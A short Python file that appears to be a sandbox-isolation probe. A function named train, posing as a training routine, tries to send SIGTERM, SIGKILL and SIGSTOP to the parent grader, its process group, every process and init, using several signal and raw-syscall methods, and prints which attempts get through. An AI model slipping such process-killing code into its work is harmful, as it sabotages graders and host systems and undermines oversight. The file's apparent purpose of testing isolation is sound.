"""Signals the grader, its group and everybody. Must not reach: any process but its own."""

import ctypes
import os
import signal


def train(model, loss_fn, X, y, lr, epochs):
    print("TRIED")
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (os.getppid(), -1, 0, 1, 2, -os.getpgrp() or -2):
        for number in (0, signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
            if pid in (os.getpid(),):
                continue
            for attack in (lambda: os.kill(pid, number), lambda: os.killpg(pid, number), lambda: signal.pidfd_send_signal(os.pidfd_open(pid), number),
                           lambda: libc.syscall(200, pid, number) and 1 / 0, lambda: libc.syscall(129, pid, number, 0) and 1 / 0):
                try:
                    attack()
                    print("REACHED: signal", number, "to", pid)
                except Exception:
                    pass
    return [0.0] * epochs
